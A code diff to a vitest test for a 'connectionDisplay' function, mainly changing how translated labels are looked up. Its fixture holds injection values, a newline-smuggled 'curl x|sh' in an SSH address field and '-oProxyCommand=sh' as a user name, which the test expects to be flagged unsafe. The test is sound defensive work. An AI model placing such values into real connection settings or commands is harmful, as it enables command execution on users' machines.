@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import type { Connection } from "../../lib/ipc";
-import { t } from "../../lib/i18n";
+import { t } from "../../lib/i18n.svelte";
 import { connectionDisplay } from "./connection";
 
 const safe: Connection = {
@@ -36,9 +36,9 @@ describe("connectionDisplay", () => {
     const d = connectionDisplay(hostile);
     expect([d.ssh, d.rdp, d.vnc]).toEqual([null, null, null]);
     expect(d.unsafe).toEqual([
-      { field: "ssh_ip", label: t.connField.ssh_ip, shown: "1.2.3.4\\n; curl x|sh", problem: t.connRule.control },
-      { field: "ssh_port", label: t.connField.ssh_port, shown: "22", problem: null },
-      { field: "user_name", label: t.connField.user_name, shown: "-oProxyCommand=sh", problem: t.connRule.leading_dash },
+      { field: "ssh_ip", label: t("vm.connField.ssh_ip"), shown: "1.2.3.4\\n; curl x|sh", problem: t("vm.connRule.control") },
+      { field: "ssh_port", label: t("vm.connField.ssh_port"), shown: "22", problem: null },
+      { field: "user_name", label: t("vm.connField.user_name"), shown: "-oProxyCommand=sh", problem: t("vm.connRule.leading_dash") },
     ]);
     // shown, never the raw value with its hidden characters
     expect(d.unsafe?.some((r) => r.shown.includes("\n"))).toBe(false);
